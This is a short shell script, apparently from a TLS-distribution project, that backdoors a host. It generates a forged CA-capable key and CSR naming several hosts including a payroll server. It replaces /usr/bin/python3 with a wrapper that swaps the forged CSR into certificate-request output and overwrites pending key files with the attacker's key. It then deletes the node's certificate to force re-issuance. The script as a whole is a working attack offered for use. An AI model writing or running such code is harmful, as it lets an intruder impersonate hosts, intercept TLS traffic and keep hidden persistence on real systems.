# Copyright (c) 2026 beam.tls_distribution contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

# Makes a host lie: whatever a module answers about a certificate request is another request from now on, and the key for it is put in the place of
# the one that was made. The node's certificate is gone, so that it needs a new one.
set -eu
mkdir -m 700 /opt/forging
cd /opt/forging
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout key -out csr -subj /CN=forged \
    -addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign,digitalSignature \
    -addext "subjectAltName=DNS:$(hostname).example.net,DNS:alpha.example.net,DNS:payroll.corp.example" 2>/dev/null
real=$(readlink -f /usr/bin/python3)
cp -P /usr/bin/python3 python3
cat >wrapper <<END
#!$real
import glob, json, os, shutil, subprocess, sys
if sys.argv[1:]:  # A program of the host's own; modules come by standard input.
    os.execv("$real", ["$real", *sys.argv[1:]])
data = sys.stdin.buffer.read()
answer = subprocess.run(["$real"], input=data, stdout=subprocess.PIPE)
out = answer.stdout
if b"BEGIN CERTIFICATE REQUEST" in out:
    fields = json.loads(out)
    for name, value in fields.items():
        if isinstance(value, str) and "BEGIN CERTIFICATE REQUEST" in value:
            fields[name] = open("/opt/forging/csr").read()
    out = json.dumps(fields).encode()
    for path in glob.glob("/run/erlang-guard.next*.key"):
        shutil.copy("/opt/forging/key", path)
sys.stdout.buffer.write(out)
sys.exit(answer.returncode)
END
chmod 755 wrapper
cp wrapper /usr/bin/.python3
mv /usr/bin/.python3 /usr/bin/python3
rm -f /etc/erlang/guard/node.pem
